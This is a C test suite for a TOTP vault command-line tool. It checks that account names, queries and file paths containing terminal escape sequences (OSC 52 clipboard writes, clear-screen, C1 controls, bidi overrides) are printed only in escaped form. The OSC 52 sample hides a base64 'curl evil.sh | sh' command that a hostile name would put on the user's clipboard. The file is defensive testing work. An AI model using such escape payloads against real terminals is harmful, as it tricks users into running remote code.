/* Hostile names through every command, on a real pseudo-terminal: an issuer or name holding
 * an OSC 52 clipboard write, a clear-screen, C1 controls (as U+009B and as a bare 0x9B byte),
 * a bidi override, DEL, BEL and CR reaches the terminal only as its display form. Every byte
 * the terminal receives is checked (cli_terminal_safe), and the escaped forms must be there,
 * so a name is shown, not dropped. The data itself stays exact: --json and exports keep it. */
#include <criterion/criterion.h>
#include <dirent.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "bench/qrgen.h"
#include "tests/lib/cli_pty.h"
#include "tests/lib/cli_run.h"
#include "otpvault/crypto.h"

static struct cli_env env;

static void setup(void)
{
    cr_assert_eq(ov_crypto_init(), 0);
    cli_env_setup(&env);
}

static void teardown(void)
{
    cli_env_teardown(&env);
}

TestSuite(cli_hostile, .init = setup, .fini = teardown, .timeout = 120);

/* The names of issue 10. */
#define OSC52 "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"   /* sets the clipboard */
#define CLEAR "\x1b[2J"
#define C1_CSI "\xc2\x9b" "31m"                          /* U+009B */
#define BARE_CSI "\x9b" "32m"                            /* a lone 0x9B byte */
#define RLO_NAME "Bidi\xe2\x80\xae" "moc.elgoog"
#define DEL_BEL_CR "del\x7f" "bel\x07" "cr\rend"

/* What their display forms contain: proof that the names are shown, visibly. */
#define OSC52_SHOWN "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
#define CLEAR_SHOWN "\\x1b[2J"
#define C1_SHOWN "\\u009b31m"
#define BARE_SHOWN "\\x9b32m"
#define RLO_SHOWN "Bidi\\u202emoc.elgoog"
#define DEL_BEL_CR_SHOWN "del\\x7fbel\\x07cr\\x0dend"

static char *pct(const char *s)
{
    static const char unreserved[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
                                     "0123456789-._~";
    char *out = malloc(strlen(s) * 3 + 1), *p = out;

    for (const unsigned char *c = (const unsigned char *)s; *c != '\0'; c++) {
        if (strchr(unreserved, *c) != NULL)
            *p++ = (char)*c;
        else
            p += sprintf(p, "%%%02X", *c);
    }
    *p = '\0';
    return out;
}

/* "otpauth://totp/ISSUER:NAME?secret=...&issuer=ISSUER\n" */
static char *uri_line(const char *issuer, const char *name, const char *secret)
{
    char *i = pct(issuer), *n = pct(name), *line = malloc(strlen(i) * 2 + strlen(n) + 200);
    sprintf(line, "otpauth://totp/%s:%s?secret=%s&issuer=%s\n", i, n, secret, i);
    free(i);
    free(n);
    return line;
}

static void add_hostile_accounts(const struct cli_env *e)
{
    char *a = uri_line(OSC52, "alice" CLEAR, "JBSWY3DPEHPK3PXP");
    char *b = uri_line(RLO_NAME, C1_CSI, "GEZDGNBVGY3TQOJQ");
    char *c = uri_line("Plain", DEL_BEL_CR, "KRSXG5CTMVRXEZLU");
    char *d = uri_line("Bare", BARE_CSI, "MFRGGZDFMZTWQ2LK");
    char all[2048];

    snprintf(all, sizeof all, "%s%s%s%s", a, b, c, d);
    free(d);
    cli_init_vault(e);
    cli_add_uris(e, all);
    free(a);
    free(b);
    free(c);
}

static void assert_safe(const struct cli_pty_result *r, const char *what)
{
    size_t at;

    if (!cli_terminal_safe(r->bytes, r->len, &at)) {
        size_t from = at > 40 ? at - 40 : 0;
        cr_assert_fail("%s: byte 0x%02x at offset %zu reached the terminal raw, after '%.*s'",
                       what, (unsigned char)r->bytes[at], at, (int)(at - from),
                       r->bytes + from);
    }
}

static void assert_shows(const struct cli_pty_result *r, const char *what,
                         const char *const *wanted)
{
    for (size_t i = 0; wanted[i] != NULL; i++)
        cr_assert(strstr(r->bytes, wanted[i]) != NULL, "%s: '%s' is not shown in:\n%s", what,
                  wanted[i], r->bytes);
}

/* Runs a command on a terminal: asserts its exit status, that the terminal got nothing raw,
 * and that the display forms in wanted (NULL-terminated, may be NULL) were shown. */
static void run_checked(const char *typed, const char *const *args, int status,
                        const char *const *wanted)
{
    struct cli_pty_result r;
    char what[200];

    snprintf(what, sizeof what, "otpvault %s %s", args[0], args[1] != NULL ? args[1] : "");
    cli_run_pty(&r, &env, typed, args);
    cr_assert_eq(r.status, status, "%s: exit %d, not %d:\n%s", what, r.status, status,
                 r.bytes);
    assert_safe(&r, what);
    if (wanted != NULL)
        assert_shows(&r, what, wanted);
    cli_pty_result_free(&r);
}

#define SHOWN(...) ((const char *const[]){ __VA_ARGS__, NULL })

Test(cli_hostile, list_and_code_show_display_forms)
{
    add_hostile_accounts(&env);
    run_checked(NULL, ARGS("list"), 0,
                SHOWN(OSC52_SHOWN, "alice" CLEAR_SHOWN, RLO_SHOWN, C1_SHOWN, BARE_SHOWN,
                      DEL_BEL_CR_SHOWN));
    run_checked(NULL, ARGS("list", "elgoog"), 0, SHOWN(RLO_SHOWN));
    run_checked(NULL, ARGS("code"), 0, SHOWN(OSC52_SHOWN, RLO_SHOWN, DEL_BEL_CR_SHOWN));
    run_checked(NULL, ARGS("code", "Plain"), 0, NULL);
    /* A query that matches several prints each with its label. */
    run_checked(NULL, ARGS("code", "e"), 0, SHOWN(RLO_SHOWN, OSC52_SHOWN));
    /* Commands that want one account list the candidates. */
    run_checked(NULL, ARGS("rm", "e", "--yes"), 1, SHOWN(RLO_SHOWN, OSC52_SHOWN));
    /* The query itself comes from outside too. */
    run_checked(NULL, ARGS("code", "nomatch" OSC52), 1, SHOWN("nomatch" OSC52_SHOWN));
    run_checked(NULL, ARGS("rm", "nomatch" CLEAR, "--yes"), 1, SHOWN("nomatch" CLEAR_SHOWN));
}

/* --json keeps every character (escaped as \uXXXX, so it is safe to print): parsed back,
 * the names are exactly what was stored; a byte that is not UTF-8 becomes U+FFFD. */
Test(cli_hostile, json_is_safe_and_exact)
{
    struct cli_pty_result r;
    json_error_t jerr;
    json_t *arr;
    bool seen[4] = { false, false, false, false };

    add_hostile_accounts(&env);
    cli_run_pty(&r, &env, NULL, ARGS("list", "--json"));
    cr_assert_eq(r.status, 0, "%s", r.bytes);
    assert_safe(&r, "list --json");
    cr_assert(strstr(r.bytes, "\\u202E") != NULL && strstr(r.bytes, "\\u009B") != NULL &&
              strstr(r.bytes, "\\u007F") != NULL, "%s", r.bytes);
    arr = json_loads(r.bytes, 0, &jerr);
    cr_assert_not_null(arr, "%s: %s", jerr.text, r.bytes);
    for (size_t i = 0; i < json_array_size(arr); i++) {
        const char *issuer = json_string_value(json_object_get(json_array_get(arr, i), "issuer"));
        const char *name = json_string_value(json_object_get(json_array_get(arr, i), "name"));
        if (strcmp(issuer, OSC52) == 0 && strcmp(name, "alice" CLEAR) == 0)
            seen[0] = true;
        if (strcmp(issuer, RLO_NAME) == 0 && strcmp(name, C1_CSI) == 0)
            seen[1] = true;
        if (strcmp(issuer, "Plain") == 0 && strcmp(name, DEL_BEL_CR) == 0)
            seen[2] = true;
        if (strcmp(issuer, "Bare") == 0 && strcmp(name, "\xef\xbf\xbd" "32m") == 0)
            seen[3] = true;
    }
    cr_assert(seen[0] && seen[1] && seen[2] && seen[3], "names changed in --json: %s", r.bytes);
    json_decref(arr);
    cli_pty_result_free(&r);
    run_checked(NULL, ARGS("code", "--json"), 0, SHOWN("\\u001B]52", "\\u202E"));
}

Test(cli_hostile, add_edit_and_rm_messages)
{
    char *dup = uri_line(OSC52, "alice" CLEAR, "JBSWY3DPEHPK3PXP");

    add_hostile_accounts(&env);
    /* The duplicate is named in the "skipped" warning. */
    run_checked(NULL, ARGS("add", "--uri", dup), 1, SHOWN(OSC52_SHOWN));
    free(dup);
    run_checked(NULL, ARGS("edit", "elgoog", "--note", "n" OSC52), 0, SHOWN(RLO_SHOWN));
    run_checked(NULL, ARGS("edit", "elgoog", "--digits", "x" CLEAR), 2, SHOWN("x" CLEAR_SHOWN));
    /* rm asks on the terminal, naming the account; the answer is typed. */
    run_checked("y\n", ARGS("rm", "Plain"), 0, SHOWN(DEL_BEL_CR_SHOWN));
    run_checked(NULL, ARGS("rm", "alice", "--yes"), 0, SHOWN(OSC52_SHOWN, "alice" CLEAR_SHOWN));
}

/* A hostile Aegis file: the preview (import --dry-run) and the import itself. */
Test(cli_hostile, import_preview_of_an_aegis_file)
{
    struct cli_env src;
    struct cli_result r;
    char aegis[400];

    /* An Aegis export written by our exporter from a vault holding the names. */
    cli_env_setup(&src);
    add_hostile_accounts(&src);
    snprintf(aegis, sizeof aegis, "%s/aegis.json", env.dir);
    cli_run(&r, &src, NULL, ARGS("export", "--format", "aegis", "-o", aegis, "--force"));
    cr_assert_eq(r.status, 0, "%s", r.err);
    cli_result_free(&r);
    cli_env_teardown(&src);
    {
        char *text = read_file(aegis, NULL);
        cr_assert(strstr(text, "\\u001b]52") != NULL || strstr(text, "\\u001B]52") != NULL,
                  "the Aegis file does not hold the OSC 52 issuer: %s", text);
        free(text);
    }

    run_checked(NULL, ARGS("import", "--dry-run", aegis), 0,
                SHOWN(OSC52_SHOWN, "alice" CLEAR_SHOWN, RLO_SHOWN, DEL_BEL_CR_SHOWN));
    cli_init_vault(&env);
    run_checked(NULL, ARGS("import", aegis), 0, NULL);
    run_checked(NULL, ARGS("import", aegis), 0, NULL); /* all already present */
    run_checked(NULL, ARGS("list"), 0, SHOWN(OSC52_SHOWN, RLO_SHOWN));
}

/* A QR picture whose otpauth URI holds the names. */
Test(cli_hostile, import_preview_of_a_qr_picture)
{
    char *uri = uri_line(RLO_NAME, "x" OSC52 C1_CSI, "JBSWY3DPEHPK3PXP");
    struct ov_image qr;
    struct qg_buf png = { 0 };
    char path[400];

    uri[strlen(uri) - 1] = '\0';
    cr_assert(qg_qr(uri, strlen(uri), 'M', 6, 4, &qr, NULL));
    qg_write_png(&qr, QG_PNG_GREY8, false, &png);
    snprintf(path, sizeof path, "%s/shot" CLEAR ".png", env.dir);
    cr_assert(qg_save(path, &png));
    run_checked(NULL, ARGS("import", "--dry-run", path), 0,
                SHOWN(RLO_SHOWN, "x" OSC52_SHOWN C1_SHOWN));
    cli_init_vault(&env);
    run_checked(NULL, ARGS("import", path), 0, NULL);
    /* A file name is outside text as well: here one that does not exist. */
    {
        char missing[400];
        snprintf(missing, sizeof missing, "%s/gone" OSC52 ".png", env.dir);
        run_checked(NULL, ARGS("import", missing), 1, SHOWN("gone" OSC52_SHOWN));
    }
    qg_buf_free(&png);
    ov_image_free(&qr);
    free(uri);
}

static char *first_file_in(const char *dir)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    char *path = NULL;

    cr_assert_not_null(d, "%s", dir);
    while ((e = readdir(d)) != NULL && path == NULL) {
        if (e->d_name[0] == '.')
            continue;
        path = malloc(strlen(dir) + strlen(e->d_name) + 2);
        sprintf(path, "%s/%s", dir, e->d_name);
    }
    closedir(d);
    cr_assert_not_null(path, "nothing in %s", dir);
    return path;
}

Test(cli_hostile, qr_export_and_backup_messages)
{
    char dir[400], png[420], out[420], backups[420];

    add_hostile_accounts(&env);
    snprintf(dir, sizeof dir, "%s/qr" CLEAR, env.dir);
    cr_assert_eq(mkdir(dir, 0700), 0);
    snprintf(png, sizeof png, "%s/one.png", dir);
    run_checked(NULL, ARGS("qr", "elgoog", "--png", png), 0, SHOWN("qr" CLEAR_SHOWN));
    /* Refusing to write over a file names it too. */
    run_checked(NULL, ARGS("qr", "elgoog", "--png", png), 1, SHOWN("qr" CLEAR_SHOWN));
    snprintf(png, sizeof png, "%s/transfer.png", dir);
    run_checked(NULL, ARGS("qr", "--migration", "--png", png), 0, SHOWN("qr" CLEAR_SHOWN));
    snprintf(out, sizeof out, "%s/export" OSC52 ".txt", env.dir);
    run_checked(NULL, ARGS("export", "--format", "otpauth", "-o", out, "--force"), 0,
                SHOWN("export" OSC52_SHOWN));
    snprintf(backups, sizeof backups, "%s/bk" CLEAR, env.dir);
    run_checked(NULL, ARGS("backup", "create", backups), 1, SHOWN("bk" CLEAR_SHOWN));
    cr_assert_eq(mkdir(backups, 0700), 0);
    run_checked(NULL, ARGS("backup", "create", backups), 0, SHOWN("bk" CLEAR_SHOWN));
    run_checked(NULL, ARGS("backup", "list", backups), 0, NULL);
    /* A backup missing an account names it. */
    {
        char *extra = uri_line("Later" OSC52, "n", "MFRGGZDFMZTWQ2LK");
        struct cli_result r;
        cli_run(&r, &env, extra, ARGS("add", "--uri", "-"));
        cr_assert_eq(r.status, 0, "%s", r.err);
        cli_result_free(&r);
        free(extra);
    }
    {
        char *file = first_file_in(backups);
        run_checked(NULL, ARGS("backup", "verify", file), 1, SHOWN("Later" OSC52_SHOWN));
        run_checked(NULL, ARGS("drill", file, "--backup-passphrase-file", env.passfile), 1,
                    SHOWN("Later" OSC52_SHOWN));
        run_checked("y\n", ARGS("backup", "restore", file, "--replace"), 0,
                    SHOWN("Later" OSC52_SHOWN));
        free(file);
    }
}

/* A vault path from outside (an environment variable, a script's argument). */
Test(cli_hostile, a_hostile_vault_path_is_shown_safely)
{
    snprintf(env.vault, sizeof env.vault, "%s/v" OSC52 ".otpv", env.dir);
    run_checked(NULL, ARGS("list"), 1, SHOWN("v" OSC52_SHOWN ".otpv"));
}
